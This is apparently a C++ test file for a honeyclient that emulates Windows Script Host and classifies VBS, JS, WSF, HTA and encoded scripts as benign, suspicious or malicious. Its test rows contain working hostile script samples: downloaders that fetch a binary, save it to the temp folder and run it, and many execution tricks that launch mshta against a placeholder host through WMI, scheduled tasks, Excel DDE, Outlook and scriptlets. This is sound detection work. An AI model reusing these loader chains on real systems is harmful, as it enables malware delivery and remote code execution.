// Script files under the stand-ins of Windows Script Host. The programs in them are specimens: a header, and
// nothing that would run.
#include "honeyclient/low/script_file.h"

#include <gmock/gmock.h>

#include "honeyclient/low/visit_test.h"

namespace shikake::honeyclient::low {
namespace {

using ::testing::Contains;
using ::testing::HasSubstr;

TEST(ScriptFile, IsKnownByItsName) {
  const struct {
    std::string_view name, type;
  } rows[] = {
      {"a.vbs", "application/x-wsh-vbscript"},
      {"A.JS", "application/x-wsh-jscript"},
      {"x.wsf", "application/x-wsh-wsf"},
      {"x.hta", "application/hta"},
      {"x.vbe", "application/x-wsh-vbscript"},
      {"x.jse", "application/x-wsh-jscript"},
      {"x.html", ""},
      {"vbs", ""},
      {"", ""},
  };
  for (const auto& row : rows) {
    EXPECT_EQ(script_file_type(row.name), row.type) << row.name;
    EXPECT_EQ(is_script_file_type(row.type), !row.type.empty()) << row.name;
  }
}

TEST(ScriptFile, OthersAreWhatTheirBytesSay) {
  using namespace std::string_view_literals;
  const struct {
    const char* test;
    std::string_view name, content, type;
  } rows[] = {
      {"page", "a.html", "<p>", "text/html"},
      {"page_without_extension", "page", "<p>", "text/html"},
      {"document", "a.pdf", "%PDF-1.7", "application/pdf"},
      {"document_under_another_name", "invoice", "%PDF-1.7", "application/pdf"},
      {"page_about_documents", "a.HTM", "<p>%PDF-1.7", "text/html"},
      {"archive", "a.bin", "Rar!\x1A\x07\x01\x00"sv, "application/vnd.rar"},
      {"shortcut", "a.lnk", "L\0\0\0\x01\x14\x02\0\0\0\0\0"sv, "application/x-ms-shortcut"},
      {"script", "a.VBS", "x = 1", "application/x-wsh-vbscript"},
      {"nothing", "", "", "text/html"},
  };
  for (const auto& row : rows) EXPECT_EQ(file_type(row.name, row.content), row.type) << row.test;
}

intel::VisitRecord inspect(const Sites& sites, std::string_view file, const std::string& text,
                           BlobSink& blobs) {
  VisitOptions options = local_visit("http://file.invalid/" + std::string(file));
  options.persona = script_file_persona;
  options.content = sites.filled(text);
  options.content_type = script_file_type(file);
  return visit_or_fail(options, blobs);
}
intel::VisitRecord inspect(const Sites& sites, std::string_view file, const std::string& text) {
  NoBlobs blobs;
  return inspect(sites, file, text, blobs);
}

struct Row {
  const char* name;
  const char* file;
  std::string text;
  std::vector<std::string> said;
};
class ScriptFiles : public ::testing::TestWithParam<Row> {};

TEST_P(ScriptFiles, Run) {
  const Row& row = GetParam();
  Sites sites(Sites::Pages{});
  intel::VisitRecord visit = inspect(sites, row.file, row.text);
  EXPECT_EQ(events_of(visit, "dialog"), row.said);
  for (const std::string& error : events_of(visit, "error")) ADD_FAILURE() << error;
  EXPECT_EQ(intel::name(visit.verdict), "benign");
}

INSTANTIATE_TEST_SUITE_P(
    Rows, ScriptFiles,
    ::testing::Values(
        Row{"vbs",
            "a.vbs",
            "WScript.Echo \"a\" & 1 + 1\nMsgBox WScript.ScriptName",
            {"Echo: a2", "MsgBox: a.vbs"}},
        Row{"js",
            "a.js",
            "WScript.Echo(typeof document, typeof WScript.CreateObject);",
            {"Echo: undefined function"}},
        Row{"wsf",
            "a.wsf",
            "<?xml version='1.0'?>\n<job id='x'>\n<script language='VBScript'><![CDATA[\nFunction two()\ntwo "
            "= 2\n"
            "End Function\n]]></script>\n<script language='JScript'>WScript.Echo(two() + 1);</script></job>",
            {"Echo: 3"}},
        Row{"wsf_objects_and_empty_elements",
            "a.wsf",
            "<package><job><script language='JScript' src='{a}/none.js'/><object id='d' "
            "progid='Scripting.Dictionary'/><script language='JScript'><![CDATA[d.Add('a', 1); "
            "WScript.Echo(d.Count)]]></script></job></package>",
            {"Echo: 1"}},
        Row{"reads_itself",
            "a.js",
            "var f = new ActiveXObject('Scripting.FileSystemObject'); "
            "WScript.Echo(f.OpenTextFile(WScript.ScriptFullName, 1).ReadAll().split('\\n')[1]);\n//specimen",
            {"Echo: //specimen"}},
        Row{"hta",
            "a.hta",
            "<html><script language=VBScript>MsgBox "
            "TypeName(CreateObject(\"WScript.Shell\"))</script></html>",
            {"MsgBox: Object"}},
        // Made by the encoder's tables from: WScript.Echo "a<b>@" & 1 + 1, and an echo of letters and digits.
        Row{"vbe",
            "a.vbe",
            "#@~^ZAAAAA==\tUm.bwDR21tK~Jm@!8@*@$J~',FP3~F@#@&U^.kaYc2^tG~\"+2Vm^+vJC81N+WL4k%3^h\tW2$DkY"
            "E7hXzyZF+&W*{R,JB~J$J~,E}J*nB4AAA==^#~@",
            {"Echo: a<b>@2", "Echo: abcdefghijklmnopQrstuvwxyz0123456789"}},
        Row{"jse", "a.jse", "#@~^IQAAAA==\tUm.bwDR21tKcBaVCk\tPv~3P`8~_,F#*IEAkAAA==^#~@", {"Echo: plain 2"}},
        Row{"half_encoded", "a.js", "WScript.Echo('#@~^' + 1);", {"Echo: #@~^1"}},
        Row{"quit", "a.vbs", "WScript.Echo 1\nWScript.Quit\nWScript.Echo 2", {"Echo: 1"}},
        Row{"quit_js", "a.js", "try { WScript.Quit(0); } catch (e) {} WScript.Echo('not reached');", {}},
        Row{"sleep",
            "a.js",
            "var t = new Date(); WScript.Sleep(90000); WScript.Echo(new Date() - t >= 90000);",
            {"Echo: true"}},
        Row{"wmi_answers",
            "a.vbs",
            "Set w = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\nFor Each s In w.ExecQuery(\"SELECT * FROM "
            "Win32_ComputerSystem WHERE 1=1\")\nWScript.Echo s.Manufacturer & s.Model\nNext\nWScript.Echo "
            "w.ExecQuery(\"SELECT * FROM AntiVirusProduct\").Count & w.InstancesOf(\"Win32_Process\").Count",
            {"Echo: Dell Inc.OptiPlex 7010", "Echo: 03"}},
        Row{"enumerator",
            "a.js",
            "for (var e = new Enumerator(GetObject('winmgmts:').InstancesOf('Win32_Process')), n = []; "
            "!e.atEnd(); "
            "e.moveNext()) n.push(e.item().Name); WScript.Echo(n.join())",
            {"Echo: explorer.exe,svchost.exe,OUTLOOK.EXE"}},
        Row{"no_arguments",
            "a.vbs",
            "WScript.Echo WScript.Arguments.Count & WScript.Arguments.Length",
            {"Echo: 00"}},
        Row{"dictionary_in_vbscript",
            "a.vbs",
            "Set d = CreateObject(\"Scripting.Dictionary\")\nd.Add \"a\", 1\nd(\"b\") = 2\nd.Item(\"c\") = "
            "3\n"
            "WScript.Echo d.Count & d(\"b\") & d.Item(\"c\") & d.Exists(\"z\")",
            {"Echo: 323False"}},
        Row{"console",
            "a.js",
            "WScript.StdOut.WriteLine('x'); WScript.Echo(WScript.FullName.length > 0)",
            {"Echo: true"}},
        Row{"utf_16",
            "a.vbs",
            std::string("\xFF\xFEM\0s\0g\0B\0o\0x\0 \0"
                        "1\0",
                        18),
            {"MsgBox: 1"}}),
    [](const auto& row) { return row.param.name; });

// A downloader: what it fetches, writes and runs is in the record, and the fetched bytes' server is named.
TEST(ScriptFile, ADownloaderIsConvictedWithWhatItFetched) {
  Sites sites(
      Sites::Pages{{"/p.bin", "HTTP/1.1 200 OK\r\nContent-Type: image/png\r\n\r\n" + specimen_program()}});
  const struct {
    const char* name;
    const char* file;
    std::string text;
  } rows[] = {
      {"js", "a.js",
       "var x = WScript.CreateObject('MSXML2.XMLHTTP'); x.open('GET', '{a}/p.bin', false); x.send();"
       "var s = new ActiveXObject('ADODB.Stream'); s.Open(); s.Type = 1; s.Write(x.ResponseBody);"
       "var p = new ActiveXObject('WScript.Shell').ExpandEnvironmentStrings('%TEMP%') + '\\\\specimen.exe';"
       "s.SaveToFile(p, 2); s.Close(); new ActiveXObject('WScript.Shell').Run(p, 0, false);"},
      {"vbs", "a.vbs",
       "Set x = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\nx.Open \"GET\", \"{a}/p.bin\", False\nx.Send\n"
       "Set s = CreateObject(\"ADODB.Stream\")\ns.Type = 1\ns.Open\ns.Write x.ResponseBody\n"
       "p = CreateObject(\"Scripting.FileSystemObject\").GetSpecialFolder(2) & \"\\specimen.exe\"\n"
       "s.SaveToFile p, 2\nCreateObject(\"Shell.Application\").ShellExecute p\n"},
  };
  for (const auto& row : rows) {
    SCOPED_TRACE(row.name);
    KeptBlobs blobs;
    intel::VisitRecord visit = inspect(sites, row.file, row.text, blobs);
    EXPECT_EQ(intel::name(visit.verdict), "malicious");
    EXPECT_THAT(visit.reasons, Contains(HasSubstr("and had it run")));
    EXPECT_THAT(events_of(visit, "file"),
                Contains(HasSubstr("specimen.exe: a Windows program of 256 bytes")));
    EXPECT_THAT(events_of(visit, "command"), Contains(HasSubstr("specimen.exe")));
    ASSERT_EQ(visit.nodes.size(), 2u);
    EXPECT_EQ(visit.nodes[1].role, intel::Role::distribution);
    EXPECT_EQ(blobs.kept.count(visit.nodes[1].sha256->hex()), 1u);
    for (const std::string& error : events_of(visit, "error")) ADD_FAILURE() << error;
  }
}

TEST(ScriptFile, VerdictsOfFilesAndCommands) {
  Sites sites(Sites::Pages{{"/next", "x"}});
  const struct {
    const char* name;
    const char* file;
    std::string text;
    std::string_view verdict;
  } rows[] = {
      {"a_command_that_fetches", "a.vbs",
       "CreateObject(\"Shell.Application\").ShellExecute \"mshta\", \"{a}/next\"", "malicious"},
      {"wmi_process", "a.vbs",
       "GetObject(\"winmgmts:\\\\.\\root\\cimv2\").Get(\"Win32_Process\").Create \"mshta {a}/next\"",
       "malicious"},
      {"wmi_with_a_startup", "a.vbs",
       "Set w = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\nSet s = "
       "w.Get(\"Win32_ProcessStartup\").SpawnInstance_\ns.ShowWindow = 0\n"
       "w.Get(\"Win32_Process\").Create \"mshta {a}/next\", Null, s, p",
       "malicious"},
      {"wmi_by_parameters", "a.js",
       "var w = GetObject('winmgmts:'), p = w.Get('Win32_Process'), i = "
       "p.Methods_('Create').InParameters.SpawnInstance_(); i.CommandLine = 'mshta {a}/next'; "
       "w.ExecMethod('Win32_Process', 'Create', i)",
       "malicious"},
      {"a_scheduled_task", "a.vbs",
       "Set s = CreateObject(\"Schedule.Service\")\ns.Connect\nSet t = s.NewTask(0)\nSet a = "
       "t.Actions.Create(0)\na.Path = \"mshta.exe\"\na.Arguments = \"{a}/next\"\n"
       "s.GetFolder(\"\\\").RegisterTaskDefinition \"u\", t, 6, , , 3",
       "malicious"},
      {"a_scheduled_task_in_xml", "a.js",
       "new ActiveXObject('Schedule.Service').GetFolder('\\\\').RegisterTask('u', '<Task><Exec><Command>mshta"
       "</Command><Arguments>{a}/next</Arguments></Exec></Task>', 6)",
       "malicious"},
      {"a_task_by_outlook", "a.js",
       "new ActiveXObject('Outlook.Application').CreateObject('WScript.Shell').Run('mshta {a}/next')",
       "malicious"},
      {"excel_by_dde", "a.js",
       "new ActiveXObject('Excel.Application').DDEInitiate('cmd', '/c mshta {a}/next')", "malicious"},
      {"by_class", "a.js", "GetObject('new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}').Run('mshta {a}/next')",
       "malicious"},
      {"by_the_script_control", "a.js",
       "var s = new ActiveXObject('MSScriptControl.ScriptControl'); s.Language = 'JScript'; s.AddCode('new "
       "ActiveXObject(\"WScript.Shell\").Run(\"mshta {a}/next\")')",
       "malicious"},
      {"excel_in_an_office", "a.vbs",
       "Set x = CreateObject(\"Excel.Application\")\nx.Visible = False\nSet b = x.Workbooks.Add\n"
       "b.Worksheets(1).Cells(1, 1).Value = 3\nb.SaveAs \"C:\\sums.xls\"\nx.Quit",
       "benign"},
      {"an_inventory", "a.vbs",
       "For Each d In GetObject(\"winmgmts:\").ExecQuery(\"Select * From Win32_LogicalDisk\")\nWScript.Echo "
       "d.DeviceID\nNext",
       "benign"},
      {"a_command", "a.js", "WScript.CreateObject('WScript.Shell').Run('notepad', 1);", "suspicious"},
      {"a_harmless_note", "a.vbs",
       "Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"C:\\note.txt\")\nf.Write "
       "\"x\"\n"
       "f.Close",
       "benign"},
      {"a_dropped_program", "a.vbs",
       "Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"C:\\s.exe\")\nf.Write \"MZ\" & "
       "String(58, Chr(0)) & Chr(64) & String(3, Chr(0)) & \"PE\" & String(60, Chr(0))\nf.Close",
       "suspicious"},
  };
  for (const auto& row : rows)
    EXPECT_EQ(intel::name(inspect(sites, row.file, row.text).verdict), row.verdict) << row.name;
}

TEST(ScriptFile, ScriptsLieElsewhereToo) {
  const std::string runs = "new ActiveXObject('WScript.Shell').Run('mshta {a}/next');";
  Sites sites(Sites::Pages{
      {"/l.js", runs},
      {"/s.sct", "<?xml version='1.0'?><scriptlet><script language='JScript'><![CDATA[" + runs + "]]></script></scriptlet>"},
      {"/next", "x"}});
  const struct {
    const char* name;
    const char* file;
    const char* text;
    const char* edge;
  } rows[] = {
      {"wsf", "a.wsf", "<job><script language='JScript' src='{a}/l.js'/></job>", "{a}/l.js"},
      {"scriptlet", "a.vbs", "Set s = GetObject(\"script:{a}/s.sct\")", "{a}/s.sct"},
      {"scriptlet_js", "a.js", "GetObject('script:{a}/s.sct');", "{a}/s.sct"},
      {"object", "a.wsf",
       "<job><object id='sh' progid='WScript.Shell'/><script language='JScript'>sh.Run('mshta {a}/next')</script></job>",
       "{a}/next"},
  };
  for (const auto& row : rows) {
    intel::VisitRecord visit = inspect(sites, row.file, row.text);
    EXPECT_EQ(intel::name(visit.verdict), "malicious") << row.name;
    bool asked = false;
    for (const intel::VisitNode& node : visit.nodes) asked = asked || sites.named(node.url) == row.edge;
    EXPECT_TRUE(asked) << row.name;
    // What the script said of components is what it did: nothing asks one for its text.
    for (const std::string& use : events_of(visit, "component"))
      EXPECT_EQ(use.find("toSource"), std::string::npos) << use;
  }
}

TEST(ScriptFile, PagesRunVbScriptInUrlsAndTimers) {
  const struct {
    const char* name;
    std::string page;
    const char* persona;
    std::vector<std::string> said;
  } rows[] = {
      {"location", "<script>location = 'vbscript:MsgBox 1 & 2'</script>", "ie8-winxp", {"MsgBox: 12"}},
      {"iframe", "<iframe src='vbscript:MsgBox 3'></iframe>", "ie6-winxp", {"MsgBox: 3"}},
      {"timeout", "<script>setTimeout('MsgBox 4 & 5', 10, 'VBScript')</script>", "ie8-winxp", {"MsgBox: 45"}},
      {"interval",
       "<script>var t = setInterval('clearInterval(t) : MsgBox 6', 10, 'vbscript')</script>",
       "ie8-winxp",
       {"MsgBox: 6"}},
      {"encoded",
       "<script language='JScript.Encode'>"
       "#@~^DQAAAA==C^+.D`8P_,F*IcQMAAA==^#~@"
       "</script>",
       "ie8-winxp",
       {"alert: 2"}},
      {"exec_script", "<script>execScript('MsgBox 7', 'VBScript')</script>", "ie8-winxp", {"MsgBox: 7"}},
      {"elsewhere", "<script>location = 'vbscript:MsgBox 1'</script>", "chrome-win10", {}},
  };
  for (const auto& row : rows) {
    VisitOptions options = local_visit("http://page.example/");
    options.offline = true;
    options.persona = row.persona;
    options.content = row.page;
    EXPECT_EQ(events_of(visit_or_fail(options), "dialog"), row.said) << row.name;
  }
}

}  // namespace
}  // namespace shikake::honeyclient::low
